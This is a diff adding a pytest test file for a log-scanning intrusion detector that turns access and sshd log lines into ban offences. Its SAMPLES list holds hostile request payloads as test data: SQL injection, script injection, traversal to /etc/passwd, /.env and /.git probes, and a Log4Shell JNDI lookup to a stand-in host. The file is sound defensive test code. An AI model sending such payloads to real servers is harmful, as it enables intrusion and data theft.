@@ -1,0 +1,447 @@
+"""The scan: blocks of log in, offences out."""
+
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta, timezone
+from ipaddress import ip_network
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pforte.bans.offence import Kind, Mode
+from pforte.robots.sites import Site, Sites
+from pforte.robots.versions import Versions, read_version
+from pforte.settings.table import CheckSettings
+from pforte.visits import request_rules
+from pforte.visits.checks import CHECKS
+from pforte.visits.checks.declaration import Check, Finding, Mark, Text, Threshold
+from pforte.visits.engine import EngineError, installed
+from pforte.visits.formats.catalogue import find_format
+from pforte.visits.formats.combined import COMBINED, VHOST_COMBINED
+from pforte.visits.request_rules import RequestRules
+from pforte.visits.scan import Origin, Plan, Scanned, Scanner
+
+NOW = datetime(2026, 3, 1, 18, tzinfo=UTC)
+NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
+ORIGIN = Origin(source="access.log", log=COMBINED)
+ROBOTS = b"User-agent: *\nDisallow: /private/\n"
+GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+AHREFS = "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"
+TEXT = Text("", "")
+STORM = Threshold(3, timedelta(minutes=1), distinct=True)
+
+
+def check(name: str, **parts: object) -> Check:
+    plain = Check(
+        id=name,
+        standard="",
+        default=Mode.ENFORCE,
+        kind=Kind.ATTACK,
+        categories=(),
+        summary=TEXT,
+        remedy=TEXT,
+        judge=lambda visit, facts: Finding(name, visit.target, "nothing"),
+    )
+    return replace(plain, **parts)  # type: ignore[arg-type]
+
+
+ATTACK = check("visit.attack", marks=(Mark(b"/attack"),))
+ABSENT = check("visit.storm", statuses=(404,), threshold=STORM, default=Mode.WATCH)
+ROBOTS_CHECK = next(one for one in CHECKS if one.id == "visit.robots")
+TRAP = next(one for one in CHECKS if one.id == "visit.trap")
+CLAIMS = next(one for one in CHECKS if one.id == "visit.impersonated-crawler")
+
+
+def line(
+    target: str = "/", client: str = "192.0.2.1", at: int = 0, status: int = 200, agent: str = "Mozilla/5.0"
+) -> str:
+    moment = (NOON + timedelta(seconds=at)).strftime("%d/%b/%Y:%H:%M:%S +0000")
+    return f'{client} - - [{moment}] "GET {target} HTTP/1.1" {status} 5 "-" "{agent}"\n'
+
+
+def scanner(*checks: Check, **parts: object) -> Scanner:
+    return Scanner(Plan(checks=checks, **parts))  # type: ignore[arg-type]
+
+
+def scan(court: Scanner, *lines: str, origin: Origin = ORIGIN, now: datetime = NOW) -> Scanned:
+    return court.scan("".join(lines).encode(), origin, now, 1)
+
+
+def told(scanned: Scanned) -> list[tuple[str, str, int | None]]:
+    return [(offence.check, str(offence.address), offence.line) for offence, _ in scanned.offences]
+
+
+def robots_sites(since: float = float("-inf"), traps: tuple[str, ...] = ()) -> Sites:
+    return Sites([Site(name="example.org", versions=Versions((read_version(ROBOTS, since),)), traps=traps)])
+
+
+def test_an_offence_is_told_with_its_place_in_block_and_source():
+    data = (line() + line("/attack", "192.0.2.7") + line()).encode()
+    scanned = scanner(ATTACK).scan(data, ORIGIN, NOW, first_line=41)
+    ((offence, start),) = scanned.offences
+    assert data[start:].startswith(b"192.0.2.7")
+    assert (offence.line, offence.source, offence.at, offence.evidence) == (
+        42,
+        "access.log",
+        NOON,
+        line("/attack", "192.0.2.7").rstrip("\n").encode(),
+    )
+    assert (scanned.lines, scanned.candidates, scanned.unparsed, scanned.capped) == (3, 1, 0, 0)
+
+
+def test_a_source_without_line_numbers_gives_none():
+    scanned = scanner(ATTACK).scan(line("/attack").encode(), ORIGIN, NOW)
+    assert [offence.line for offence, _ in scanned.offences] == [None]
+
+
+def test_a_line_at_the_end_without_line_feed_is_judged():
+    assert told(scan(scanner(ATTACK), line(), line("/attack").rstrip("\n"))) == [
+        ("visit.attack", "192.0.2.1", 2)
+    ]
+
+
+def test_a_carriage_return_is_no_part_of_the_line():
+    scanned = scan(scanner(ATTACK), line("/attack").replace("\n", "\r\n"))
+    assert [offence.evidence[-1:] for offence, _ in scanned.offences] == [b'"']
+
+
+def test_an_empty_block_gives_nothing():
+    assert scan(scanner(ATTACK), "") == Scanned()
+
+
+def test_candidates_of_another_shape_are_counted():
+    scanned = scan(scanner(ATTACK), "what is this /attack\n", line("/attack"))
+    assert (scanned.unparsed, len(scanned.offences)) == (1, 1)
+
+
+def test_evidence_keeps_bytes_that_are_no_text():
+    data = line("/attack/X").encode().replace(b"X", b"\xff\xfe")
+    ((offence, _),) = scanner(ATTACK).scan(data, ORIGIN, NOW).offences
+    assert b"/attack/\xff\xfe" in offence.evidence
+
+
+def test_a_line_far_in_the_future_is_taken_as_written_now():
+    late, early = NOON + timedelta(seconds=59), NOON - timedelta(seconds=61)
+    court = scanner(ATTACK)
+    assert [offence.at for offence, _ in scan(court, line("/attack"), now=late).offences] == [NOON]
+    assert [offence.at for offence, _ in scan(court, line("/attack"), now=early).offences] == [early]
+
+
+def test_a_line_without_zone_is_read_in_the_zone_of_its_source():
+    log = find_format("json")
+    data = (
+        b'{"time":"2026-03-01T12:00:00","remote_addr":"192.0.2.1","request":"GET /attack HTTP/1.1","status":200,'
+        b'"http_user_agent":"x"}\n'
+    )
+    origin = Origin(source="x", log=log, zone=timezone(timedelta(hours=2)))
+    ((offence, _),) = scanner(ATTACK).scan(data, origin, NOW).offences
+    assert offence.at == NOON - timedelta(hours=2)
+
+
+def test_counts_complete_over_several_blocks():
+    court = scanner(ABSENT)
+    assert told(scan(court, line("/a", status=404), line("/b", at=1, status=404))) == []
+    assert told(scan(court, line("/c", at=2, status=404))) == [("visit.storm", "192.0.2.1", 1)]
+
+
+def test_all_services_and_sources_share_one_history():
+    court = scanner(ABSENT)
+    scan(court, line("/a", status=404), line("/b", at=1, status=404))
+    other = Origin(source="other.log", log=VHOST_COMBINED)
+    scanned = scan(court, "example.org:80 " + line("/c", at=2, status=404), origin=other)
+    assert [(offence.source, offence.check) for offence, _ in scanned.offences] == [
+        ("other.log", "visit.storm")
+    ]
+
+
+def test_lines_that_may_wait_are_counted_with_those_that_do_more():
+    mixed = check("visit.mixed", marks=(Mark(b"/mixed"),), threshold=Threshold(9, timedelta(minutes=1)))
+    court = scanner(ABSENT, mixed)
+    lines = [line("/a", status=404), line("/mixed", at=1, status=404), line("/c", at=2, status=404)]
+    assert told(scan(court, *lines)) == [("visit.storm", "192.0.2.1", 3)]
+
+
+@pytest.mark.parametrize("tracked", [True, False])
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from("123"),
+            st.integers(0, 30),
+            st.sampled_from(["/a", "/b", "/c", "/mixed"]),
+            st.booleans(),
+        ),
+        max_size=40,
+    )
+)
+@settings(max_examples=40, deadline=None)
+def test_waiting_lines_change_no_offence(tracked, steps):
+    """However lines are cut into blocks, and whether they may wait: the same offences at the same lines."""
+    mixed = check("visit.mixed", marks=(Mark(b"/mixed"),), threshold=Threshold(2, timedelta(minutes=1)))
+    plain, waiting = scanner(ABSENT, mixed, tracked=True), scanner(ABSENT, mixed, tracked=tracked)
+    now, lines, cuts = 0, [], [0]
+    for client, step, target, cut in steps:
+        now += step
+        lines.append(line(f"{target}{now}", f"192.0.2.{client}", now, 404))
+        if cut:
+            cuts.append(len(lines))
+    wanted = told(scan(plain, *lines))
+    got = []
+    for begin, end in zip(cuts, [*cuts[1:], len(lines)], strict=True):
+        data = "".join(lines[begin:end]).encode()
+        got += told(waiting.scan(data, ORIGIN, NOW, begin + 1))
+    assert got == wanted
+
+
+def test_what_a_count_was_is_handed_over_to_the_next_process():
+    before, behind = scanner(ABSENT, tracked=True), scanner(ABSENT, tracked=True)
+    scan(before, line("/a", status=404), line("/b", at=1, status=404))
+    states = before.changes()
+    assert [(state.check, str(state.network)) for state in states] == [("visit.storm", "192.0.2.1/32")]
+    assert before.changes() == ()
+    behind.load(states)
+    assert told(scan(behind, line("/c", at=2, status=404))) == [("visit.storm", "192.0.2.1", 1)]
+    assert [state.state for state in behind.changes()] == [b""]
+
+
+def test_findings_of_one_network_are_capped_in_a_block_and_minute():
+    court = scanner(ATTACK, findings=2)
+    lines = [line(f"/attack/{number}", at=number) for number in range(5)]
+    scanned = scan(court, *lines, line("/attack", "192.0.2.2"), line("/attack", at=60))
+    assert told(scanned) == [
+        ("visit.attack", "192.0.2.1", 1),
+        ("visit.attack", "192.0.2.1", 2),
+        ("visit.attack", "192.0.2.2", 6),
+        ("visit.attack", "192.0.2.1", 7),
+    ]
+    assert scanned.capped == 3
+    assert len(scan(court, *lines).offences) == 2
+
+
+def test_the_cap_counts_the_network_not_the_address():
+    clients = [f"2001:db8:1:2::{number}" for number in range(5)]
+    scanned = scan(scanner(ATTACK, findings=2), *(line("/attack", client) for client in clients))
+    assert (len(scanned.offences), scanned.capped) == (2, 3)
+
+
+@pytest.mark.parametrize(
+    ("shut", "client"),
+    [
+        ("192.0.2.1/32", "192.0.2.1"),
+        ("192.0.2.0/24", "192.0.2.77"),
+        ("2001:db8:1:2::/64", "2001:db8:1:2::9"),
+        ("2001:db8::/32", "2001:db8:ffff::1"),
+        ("192.0.2.1/32", "::ffff:192.0.2.1"),
+    ],
+)
+def test_lines_of_a_network_that_is_shut_out_are_skipped_and_counted(shut, client):
+    court = scanner(ATTACK)
+    court.shut_out(ip_network(shut), NOW + timedelta(hours=1))
+    scanned = scan(court, line("/attack", client), line("/attack", "203.0.113.9"))
+    assert told(scanned) == [("visit.attack", "203.0.113.9", 2)]
+    assert scanned.skipped == {ip_network(shut): 1}
+
+
+def test_a_network_is_judged_again_when_its_ban_ends_or_is_lifted():
+    court = scanner(ATTACK)
+    court.shut_out(ip_network("192.0.2.0/24"), NOW + timedelta(hours=1))
+    court.shut_out(ip_network("192.0.2.1/32"), NOW)
+    assert scan(court, line("/attack")).skipped == {ip_network("192.0.2.0/24"): 1}
+    court.let_in(ip_network("192.0.2.0/24"))
+    assert len(scan(court, line("/attack")).offences) == 1
+    court.shut_out(ip_network("192.0.2.1/32"), NOW + timedelta(hours=1))
+    assert len(scan(court, line("/attack"), now=NOW + timedelta(hours=1)).offences) == 1
+
+
+def test_a_crawler_offends_on_a_disallowed_path():
+    court = scanner(ROBOTS_CHECK, sites=robots_sites())
+    lines = [line("/private/a", agent=AHREFS), line("/public", agent=AHREFS), line("/private/a")]
+    assert told(scan(court, *lines)) == [("visit.robots", "192.0.2.1", 1)]
+
+
+def test_whoever_fetched_robots_txt_is_a_crawler_from_then_on():
+    court = scanner(ROBOTS_CHECK, sites=robots_sites())
+    lines = [
+        line("/private/a", agent="curl/8", at=0),
+        line("/robots.txt", agent="curl/8", at=5),
+        line("/private/b", agent="curl/8", at=6),
+        line("/private/b", "192.0.2.11", agent="curl/8", at=6),
+    ]
+    assert told(scan(court, *lines)) == [("visit.robots", "192.0.2.1", 3)]
+    assert told(scan(court, line("/private/c", agent="curl/8", at=90))) == [("visit.robots", "192.0.2.1", 1)]
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        line("/robots.txt", status=404, agent="curl/8"),
+        line("/robots.txt.bak", agent="curl/8"),
+        line("/robots.txt", agent=GOOGLE),
+    ],
+)
+def test_who_did_not_get_it_or_is_known_by_name_is_not_followed(asked):
+    court = scanner(ROBOTS_CHECK, sites=robots_sites())
+    scan(court, asked)
+    assert len(court._followed) == 0
+
+
+def test_without_a_robots_txt_nobody_is_followed():
+    court = scanner(ROBOTS_CHECK)
+    scan(court, line("/robots.txt", agent="curl/8"))
+    assert len(court._followed) == 0
+
+
+def test_new_rules_of_a_site_count_at_once_and_counts_stay():
+    court = scanner(ROBOTS_CHECK, ABSENT)
+    scan(court, line("/a", status=404), line("/b", status=404), line("/private/a", agent=AHREFS))
+    court.renew(robots_sites())
+    assert told(scan(court, line("/private/a", agent=AHREFS))) == [("visit.robots", "192.0.2.1", 1)]
+    assert told(scan(court, line("/c", status=404))) == [("visit.storm", "192.0.2.1", 1)]
+
+
+def test_a_trap_convicts_anybody():
+    court = scanner(
+        TRAP, sites=Sites([Site(name="example.org", versions=Versions(), traps=("/secret-garden/",))])
+    )
+    assert told(scan(court, line("/"), line("/secret-garden/x"))) == [("visit.trap", "192.0.2.1", 2)]
+
+
+def test_the_site_of_the_source_stands_for_lines_that_name_none():
+    sites = Sites(
+        [
+            Site(name="open.example", versions=Versions()),
+            Site(name="example.org", versions=Versions((read_version(ROBOTS),))),
+        ]
+    )
+    court = scanner(ROBOTS_CHECK, sites=sites)
+    asked = line("/private/a", agent=AHREFS)
+    assert told(scan(court, asked)) == []
+    assert len(scan(court, asked, origin=replace(ORIGIN, site=b"example.org")).offences) == 1
+    named = Origin(source="x", log=VHOST_COMBINED, site=b"example.org")
+    assert told(scan(court, "open.example:80 " + asked, origin=named)) == []
+
+
+def test_a_claim_to_be_a_crawler_is_told_once_an_hour_by_each_network():
+    court = scanner(CLAIMS)
+    lines = [line(at=at, agent=GOOGLE) for at in (0, 10, 20)]
+    scanned = scan(court, *lines, line("/", "192.0.2.2", agent=GOOGLE))
+    assert [(offence.claim, str(offence.address)) for offence, _ in scanned.offences] == [
+        ("googlebot", "192.0.2.1"),
+        ("googlebot", "192.0.2.2"),
+    ]
+    assert len(scan(court, *lines).offences) == 0
+    assert len(scan(court, line(at=3700, agent=GOOGLE)).offences) == 1
+
+
+def test_another_claim_of_the_same_network_is_told():
+    bing = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
+    scanned = scan(scanner(CLAIMS), line(agent=GOOGLE), line(agent=GOOGLE), line(agent=bing))
+    assert [offence.claim for offence, _ in scanned.offences] == ["googlebot", "bingbot"]
+
+
+def test_logins_that_fail_become_offences():
+    def judge_login(failure):
+        return Finding("visit.ssh", failure.user, "the right password")
+
+    court = scanner(
+        check("visit.ssh", judge=None, judge_login=judge_login, threshold=Threshold(2, timedelta(minutes=1)))
+    )
+    log = find_format("sshd", NOW.timestamp())
+    data = "".join(
+        f"Mar  1 12:00:0{second} host sshd[1]: Failed password for root from 203.0.113.9 port 22 ssh2\n"
+        for second in (1, 2)
+    )
+    scanned = scan(
+        court,
+        "Mar  1 12:00:00 host sshd[1]: Server listening\n",
+        data,
+        origin=Origin(source="auth.log", log=log),
+    )
+    ((offence, _),) = scanned.offences
+    assert (offence.service, offence.line, str(offence.network)) == ("ssh", 3, "203.0.113.9/32")
+    assert scanned.unparsed == 0
+    court.shut_out(ip_network("203.0.113.9/32"), NOW + timedelta(hours=1))
+    assert scan(court, data, origin=Origin(source="auth.log", log=log)).skipped == {
+        ip_network("203.0.113.9/32"): 2
+    }
+
+
+def test_a_check_that_is_off_is_silent():
+    assert (
+        told(scan(scanner(ATTACK, settings={"visit.attack": CheckSettings(mode="off")}), line("/attack")))
+        == []
+    )
+
+
+def test_checks_that_need_the_engine_of_rules_are_told_where_it_is_absent(monkeypatch):
+    monkeypatch.setattr(request_rules, "find_spec", lambda name: None)
+    rules = RequestRules({"x.conf": 'SecRule ARGS "@rx a" "id:1,phase:1,tag:\'visit.attack\'"'})
+    court = scanner(ATTACK, check("visit.other", marks=(Mark(b"/attack"),)), rules=rules)
+    assert court.unavailable == ("visit.attack",)
+    assert told(scan(court, line("/attack"))) == [("visit.other", "192.0.2.1", 1)]
+
+
+def test_with_everything_installed_nothing_is_unavailable():
+    assert scanner(*CHECKS).unavailable == ()
+
+
+def test_an_engine_that_does_not_exist_is_told():
+    with pytest.raises(EngineError):
+        scanner(ATTACK, engine="abacus")
+
+
+SAMPLES = [
+    line("/item?id=1'+union+select+1,2,3--"),
+    line("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+    line("/download?file=../../../../etc/passwd"),
+    line("/.env"),
+    line("/.git/config"),
+    line("/?x=${jndi:ldap://x.example/a}"),
+    line("/", agent="sqlmap/1.7"),
+    line("/"),
+    line("/news?id=5"),
+    line("/robots.txt", agent="curl/8"),
+    line("/private/", agent=AHREFS),
+    line("/old", status=404),
+]
+
+
+@pytest.fixture(scope="module")
+def shipped() -> RequestRules:
+    folder = Path(__file__).parents[3] / "rules"
+    return RequestRules(
+        {path.name: path.read_text(encoding="utf-8") for path in sorted(folder.glob("*.conf"))}
+    )
+
+
+def test_both_engines_find_the_same_offences(shipped):
+    found = []
+    for engine in installed():
+        court = scanner(*CHECKS, sites=robots_sites(), rules=shipped, engine=engine)
+        found.append(told(scan(court, *SAMPLES * 3)))
+    assert found[0]
+    assert all(each == found[0] for each in found)
+
+
+@given(
+    st.lists(
+        st.one_of(st.sampled_from([text.encode() for text in SAMPLES]), st.binary(max_size=80)), max_size=20
+    ),
+    st.sampled_from(["combined", "common", "vhost_combined", "json", "sshd", "postfix", "dovecot"]),
+)
+@settings(max_examples=60, deadline=None)
+def test_any_bytes_are_scanned(pieces, name):
+    data = b"".join(pieces)
+    scanned = WHOLE.scan(data, Origin(source="x", log=FORMATS[name]), NOW, 1)
+    assert scanned.lines == data.count(b"\n") + (1 if data and not data.endswith(b"\n") else 0)
+    for offence, start in scanned.offences:
+        assert start == 0 or data[start - 1 : start] == b"\n"
+        assert offence.evidence in data[start:]
+        assert offence.at <= NOW + timedelta(seconds=60)
+
+
+WHOLE = scanner(*CHECKS, sites=robots_sites())
+FORMATS = {
+    name: find_format(name)
+    for name in ("combined", "common", "vhost_combined", "json", "sshd", "postfix", "dovecot")
+}
